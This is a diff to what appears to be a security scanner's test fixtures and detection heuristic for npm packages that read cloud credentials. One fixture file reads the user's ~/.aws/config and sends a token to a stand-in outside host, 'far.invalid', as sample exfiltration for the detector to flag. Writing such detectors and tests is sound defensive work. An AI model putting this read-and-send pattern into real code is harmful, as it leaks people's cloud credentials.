@@ -132,6 +132,32 @@ exports.ask = () => fetch('https://api.sample.invalid/', { headers: { authorizat
       ],
     },
     {
+      title: "a client that reads the cloud's file and asks the machine's own endpoint, and one that asks elsewhere",
+      before: { 'one.js': '', 'two.js': '', 'index.js': '' },
+      after: {
+        'package.json': { exports: { './one': './one.js', './two': './two.js' } },
+        'one.js': `exports.read = () => require('fs').readFileSync(process.env.HOME + '/.aws/config', 'utf8');
+exports.ask = (token) => require('http').request({ host: process.env.CLOUD_ENDPOINT, headers: { token } }).end();
+`,
+        'two.js': `exports.read = () => require('fs').readFileSync(process.env.HOME + '/.aws/config', 'utf8');
+exports.ask = (token) => require('http').request({ host: 'far.invalid', headers: { token } }).end();
+`,
+      },
+      expect: [
+        {
+          kind: 'when-called',
+          message: 'fs.readFileSync reads <home>/.aws/config',
+          at: { in: 'tarball', path: 'one.js', line: 1 },
+          via: ['exports/.~1one', 'one.js', 'read()'],
+        },
+        {
+          message: 'fs.readFileSync reads <home>/.aws/config',
+          at: { in: 'tarball', path: 'two.js', line: 1 },
+          via: ['exports/.~1two', 'two.js', 'read()'],
+        },
+      ],
+    },
+    {
       title: "a client that reads the cloud's file when it is asked to",
       before: { 'index.js': '' },
       after: {
@@ -204,8 +230,12 @@ exports.ping = () => fetch('https://api.invalid/v1', { headers: { accept: proces
 type Kind = 'sent' | 'when-installed' | 'when-called' | 'own-service';
 
 /** What makes one look twice at a file that reads keys. */
-function isTelling({ kind, origins, carries = [] }: Behavior): boolean {
-  if (kind === 'disclosure') return carries.some(({ sort }) => sort !== 'input');
+function isTelling({ kind, detail, origins, carries = [] }: Behavior): boolean {
+  if (kind === 'disclosure') {
+    // A token for the host that a variable of the environment names is an answer to whoever runs the program.
+    const isAnswer = /^(?:https?:\/\/)?\$\w+/.test(detail ?? '');
+    return carries.some(({ sort }) => sort !== 'input' && !(isAnswer && sort === 'token'));
+  }
   if (kind === 'child-process' || kind === 'network') return origins.includes('file') || origins.includes('decoded');
   return kind === 'dynamic-code' && origins.length > 0;
 }
